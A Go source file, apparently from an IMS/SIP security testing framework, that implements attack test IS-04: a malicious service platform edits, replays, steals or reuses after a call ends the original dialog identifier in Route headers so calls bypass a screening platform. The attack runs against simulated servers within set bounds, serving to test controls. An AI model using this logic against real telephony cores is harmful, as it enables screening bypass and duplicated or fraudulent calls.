package attack

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"time"

	"imsafe/proto/sip"
	"imsafe/secure"
)

// odiEdit: a service platform tampers with the identifier by which the core knows where a request was.
func odiEdit() Attack {
	controls := []secure.ControlID{secure.ISIntegrityODI}
	return Attack{
		ID: "is.odi.edit", Number: "IS-04", Title: "an original dialog identifier is edited, replayed, stolen",
		Text:     "the identifier says which platforms come next: whoever chooses it passes by the one that screens, or has a call run twice",
		Services: []Service{Integrity}, Stride: Tampering, Threats: []Threat{Corruption}, Module: ApplicationsControl,
		Source: "TS 24.229 5.4.3.2", Access: []Access{ISC},
		Approved: []Approved{
			{Name: first, Manifest: rights("session.proxy") + asked("originating", 10, "continue") + asked("originating", 30, "continue")},
			{Name: screen, Manifest: rights("session.proxy") + asked("originating", 20, "reject")},
			{Name: second, Manifest: rights("session.proxy") + asked("originating", 40, "continue")},
		},
		Bounds: Bounds{Packets: 80, Bytes: 120_000, Conns: 2, Time: 3 * time.Second},
		Variants: []Variant{
			{Name: "edit", Position: EnrolledPlatform, Controls: controls, Run: odi(false, func(before, _, _ string) string { return misspelt(before) })},
			{Name: "replay", Position: EnrolledPlatform, Controls: controls, Run: odi(false, func(_, behind, _ string) string { return behind })},
			{Name: "steal", Position: EnrolledPlatform, Controls: controls, Run: odi(true, func(_, _, others string) string { return others })},
			{Name: "ended", Position: EnrolledPlatform, Controls: controls, Run: odiAfterEnd},
		},
	}
}

// The platforms of a chain: two of the attacker's, and the honest one between them that screens.
const (
	first  = "first"
	screen = "screen"
	second = "second"
)

// misspelt changes one letter of the identifier in a Route entry.
func misspelt(route string) string {
	at := strings.Index(route, "sip:") + len("sip:") + 3
	letter := "A"
	if route[at:at+1] == letter {
		letter = "B"
	}
	return route[:at] + letter + route[at+1:]
}

// chain is what the attacker's platforms learn of dave's calls to carol.
type chain struct {
	one    *Server     // stands before and behind the platform that screens; it keeps the call that is to be screened
	own    chan string // identifiers that it was given, in their order
	others chan string // those that the other platform was given
}

// toScreen begins the Call-ID of the call that the attacker wants past the screening platform.
const toScreen = "a-call-to-screen-"

// chain connects both platforms of the attacker. holds says that the second keeps what it is given.
func (f *Field) chain(ctx context.Context, holds bool) (c *chain, err error) {
	c = &chain{own: make(chan string, 4), others: make(chan string, 4)}
	c.one, err = f.server(ctx, f.attacker, first, func(s *Server) {
		s.Handle = func(m *sip.Message) bool {
			if m.Method() == sip.INVITE {
				c.own <- string(m.Nth(sip.HdrRoute, 1))
			}
			return m.Method() == sip.INVITE && strings.HasPrefix(string(m.Get(sip.HdrCallID)), toScreen)
		}
	})
	if err != nil {
		return nil, err
	}
	_, err = f.server(ctx, f.attacker, second, func(s *Server) {
		s.Handle = func(m *sip.Message) bool {
			if m.Method() != sip.INVITE {
				return false
			}
			c.others <- string(m.Nth(sip.HdrRoute, 1))
			return holds && s.Answer(m, 183) == nil // who is silent is taken for dead
		}
	})
	return c, err
}

// given waits for an identifier.
func given(ctx context.Context, from chan string) (string, error) {
	select {
	case route := <-from:
		return route, nil
	case <-ctx.Done():
		return "", errors.New("attack: the call does not come to the attacker's platforms")
	}
}

// learn lets dave call carol twice. Of the first call the identifiers are seen: of no use, behind the screening platform, and of the other platform;
// of the second the one that leads to the screening platform.
func (c *chain) learn(ctx context.Context, dave, carol *Hand) (before, behind, others string, err error) {
	if err = dave.Write(dave.calls(carol.IMPU, "shown-"+dave.tag)); err != nil {
		return
	}
	if _, err = given(ctx, c.own); err != nil {
		return
	}
	if behind, err = given(ctx, c.own); err != nil {
		return
	}
	if others, err = given(ctx, c.others); err != nil {
		return
	}
	if err = dave.Write(dave.calls(carol.IMPU, toScreen+dave.tag)); err == nil {
		before, err = given(ctx, c.own)
	}
	return
}

// attempts is how often a platform tries to make a call of its own of another.
const attempts = 10

// odi makes calls of its own of dave's second call to carol, with an identifier that choose takes.
func odi(holds bool, choose func(before, behind, others string) string) func(context.Context, *Field, *Outcome) error {
	return func(ctx context.Context, f *Field, o *Outcome) error {
		dave, carol, err := f.callerAndCallee(ctx)
		if err != nil {
			return err
		}
		c, err := f.chain(ctx, holds)
		if err != nil {
			return err
		}
		honest, err := f.server(ctx, f.honest, screen, nil)
		if err != nil {
			return err
		}
		before, behind, others, err := c.learn(ctx, dave, carol)
		if err != nil {
			return err
		}
		mine := "second-half-" + f.token()
		var answer *sip.Message
		for i := 0; i < attempts && statusOf(answer) != 200; i++ {
			if answer, err = c.one.Ask(ctx, c.one.Begins(Request{Method: "INVITE", URI: carol.IMPU, From: dave.IMPU, CallID: fmt.Sprintf("%s-%d", mine, i),
				Lines: []string{"Route: " + choose(before, behind, others), c.one.contact()}})); err != nil {
				return err
			}
			o.Arrived("%d calls with that identifier, the last answered %d", i+1, answer.Status())
		}
		rang, err := f.counts(ctx, dave, carol, func(m *sip.Message) bool { return strings.HasPrefix(string(m.Get(sip.HdrCallID)), mine) })
		if err != nil {
			return err
		}
		screened := 0
		for _, m := range honest.Seen("INVITE") {
			if strings.Contains(m, mine) || strings.Contains(m, toScreen) {
				screened++
			}
		}
		o.Users = rang
		o.Peer(rang > 0 && screened == 0, "carol's telephone rings %d times for the second call, and the platform that screens has seen %d of two calls",
			rang, len(honest.Seen("INVITE")))
		o.Wire(answer.Status() == 200, "the attacker's platform is answered %d", answer.Status())
		return nil
	}
}

// odiAfterEnd: the platform refuses dave's call to carol and makes one of its own of it when it is over, with the identifier that it has not used.
func odiAfterEnd(ctx context.Context, f *Field, o *Outcome) error {
	dave, carol, err := f.callerAndCallee(ctx)
	if err != nil {
		return err
	}
	identifier := make(chan string, 4)
	s, err := f.server(ctx, f.attacker, first, func(s *Server) {
		s.Handle = func(m *sip.Message) bool {
			if m.Method() != sip.INVITE {
				return false
			}
			identifier <- string(m.Nth(sip.HdrRoute, 1))
			return s.Answer(m, 486) == nil
		}
	})
	if err != nil {
		return err
	}
	honest, err := f.server(ctx, f.honest, screen, nil)
	if err != nil {
		return err
	}
	over, err := dave.Ask(ctx, dave.calls(carol.IMPU, toScreen+dave.tag))
	if err != nil {
		return err
	}
	if over.Status() != 486 {
		return fmt.Errorf("attack: a call that the platform refuses is answered %d", over.Status())
	}
	mine := "after-the-end-" + f.token()
	answer, err := s.Ask(ctx, s.Begins(Request{Method: "INVITE", URI: carol.IMPU, From: dave.IMPU, CallID: mine, Lines: []string{"Route: " + <-identifier, s.contact()}}))
	if err != nil {
		return err
	}
	o.Arrived("the call with the identifier of one that is over is answered %d", answer.Status())
	rang, err := f.counts(ctx, dave, carol, func(m *sip.Message) bool { return string(m.Get(sip.HdrCallID)) == mine })
	if err != nil {
		return err
	}
	o.Users = rang
	o.Peer(rang > 0 && len(honest.Seen("INVITE")) == 0, "carol's telephone rings %d times for a call of dave's that was over, and the platform that screens has seen %d", rang,
		len(honest.Seen("INVITE")))
	o.Wire(answer.Status() == 200, "the attacker's platform is answered %d", answer.Status())
	return nil
}

// calls is an INVITE to whom, without a session description.
func (h *Hand) calls(whom, callID string) string {
	return h.Text(Request{Method: "INVITE", URI: whom, CallID: callID, Lines: []string{"Contact: " + h.Contact()}})
}
